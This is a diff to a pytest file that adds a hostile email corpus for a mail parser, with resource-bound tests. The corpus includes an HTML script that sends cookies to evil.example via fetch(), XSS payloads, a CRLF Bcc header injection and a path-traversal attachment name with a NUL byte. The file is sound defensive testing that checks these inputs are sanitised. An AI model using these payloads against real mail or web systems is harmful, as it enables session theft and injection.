@@ -2,6 +2,8 @@
 never a crash — through the parser alone and through the whole batch pipeline."""
 
 import base64
+import time
+import tracemalloc
 
 import pytest
 
@@ -24,7 +26,60 @@ def nested(depth: int) -> bytes:
     return inner
 
 
+def nested_multipart(depth: int) -> bytes:
+    """`depth` multipart/mixed parts, each the only child of the one above, a text at the bottom."""
+    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
+    for level in range(depth):
+        boundary = f"L{level}".encode()
+        body = (b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n--' + boundary + b"\r\n"
+                + body + b"--" + boundary + b"--\r\n")  # fmt: skip
+    return HEAD % b"d200" + b"Subject: deep\r\n" + body
+
+
+def many_parts(count: int) -> bytes:
+    parts = b"".join(b"--P\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % n for n in range(count))
+    return (
+        HEAD % b"p10k" + b'Subject: parts\r\nContent-Type: multipart/mixed; boundary="P"\r\n\r\n' + parts + b"--P--\r\n"
+    )
+
+
+HOSTILE_HTML = (
+    b'<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
+    b'<a href="javascript:alert(1)">click</a><img src=x onerror="alert(2)"><iframe src="https://evil.example"></iframe>'
+)
+
 CORPUS: dict[str, tuple[bytes, str]] = {
+    "nested-multipart-x200": (nested_multipart(200), "parsed"),
+    "ten-thousand-parts": (many_parts(10_000), "parsed"),
+    "header-100kb": (HEAD % b"hk" + b"Subject: big\r\nX-Junk: " + b"j" * 100_000 + b"\r\n\r\nbody\r\n", "parsed"),
+    "five-thousand-recipients": (
+        HEAD.replace(b"To: helpdesk@northwind.example\r\n", b"") % b"r5k"
+        + b"To: "
+        + b", ".join(b"user%d@northwind.example" % n for n in range(5000))
+        + b"\r\nSubject: all\r\n\r\nb\r\n",
+        "parsed",
+    ),
+    "references-10k": (
+        HEAD % b"ref"
+        + b"Subject: Re: thread\r\nReferences: "
+        + b" ".join(b"<id%d@x>" % n for n in range(10_000))
+        + b"\r\n\r\nb\r\n",
+        "parsed",
+    ),
+    "crlf-injection-subject": (
+        HEAD % b"crlf" + b"Subject: =?utf-8?Q?hello=0D=0ABcc:_victim@evil.example=0D=0A=0D=0Ainjected?=\r\n\r\nb\r\n",
+        "parsed",
+    ),
+    "nul-in-attachment-name": (
+        HEAD % b"nulname" + b'Subject: att\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\n'
+        b"Content-Type: text/plain\r\n\r\nsee\r\n--Z\r\nContent-Type: application/octet-stream\r\n"
+        b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2Frun%00.exe\r\n\r\nMZ\r\n--Z--\r\n",
+        "parsed",
+    ),
+    "html-with-scripts": (
+        HEAD % b"js" + b"Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML + b"\r\n",
+        "parsed",
+    ),
     "broken-boundary": (
         HEAD % b"b1" + b'Subject: x\r\nContent-Type: multipart/mixed; boundary="AAA"\r\n\r\n--BBB\r\n'
         b"Content-Type: text/plain\r\n\r\nhello\r\n--BBB--\r\n",
@@ -105,15 +160,37 @@ def test_each_malformed_message_parses_or_is_refused_with_a_reason(name):
     assert expected == "parsed", f"{name} parsed but should be refused"
     assert mail["from_address"] and isinstance(mail["subject"], str)
     assert "\x00" not in mail["text"]
+    assert "\r" not in mail["subject"] and "\n" not in mail["subject"]  # no header injection through a subject
     for attachment in mail["attachments"]:
-        name = attachment["name"]  # a plain file name: no folder, not hidden, no way up
-        assert "/" not in name and "\\" not in name and not name.startswith("."), name
+        name = attachment["name"]  # a plain file name: no folder, not hidden, no way up, no NUL
+        assert "/" not in name and "\\" not in name and not name.startswith(".") and "\x00" not in name, name
+    for shown in (mail.get("html") or "", mail["text"]):
+        assert (
+            "<script" not in shown and "javascript:" not in shown and "onerror" not in shown and "<iframe" not in shown
+        )
+
+
+@pytest.mark.parametrize("name", sorted(CORPUS))
+def test_each_hostile_message_is_read_within_a_time_and_memory_bound(name):
+    """Bounds: 10 s and 200 MB above the message's own size per message (the largest here: 10,000 parts)."""
+    raw, _ = CORPUS[name]
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        decode_message(raw)
+    except MailParseError:
+        pass
+    finally:
+        _, peak = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+    assert time.perf_counter() - started < 10, f"{name}: too slow"
+    assert peak < 200 * 1024 * 1024 + 10 * len(raw), f"{name}: {peak / 2**20:.0f} MB"
 
 
 def test_the_whole_corpus_through_the_pipeline_never_crashes(store):
     pipeline = SourcePipeline(
         "corpus", decode_message, load_mapping("email"), Rules(RulesConfig()),
-        intake=EmailIntake(EmailConfig(), "corpus"),
+        intake=EmailIntake(EmailConfig(flood_per_sender=100), "corpus"),  # the corpus has one sender
     )  # fmt: skip
     records = [RawRecord(f"{name}", raw, "eml", utcnow()) for name, (raw, _) in sorted(CORPUS.items())]
     with store.transaction() as conn:
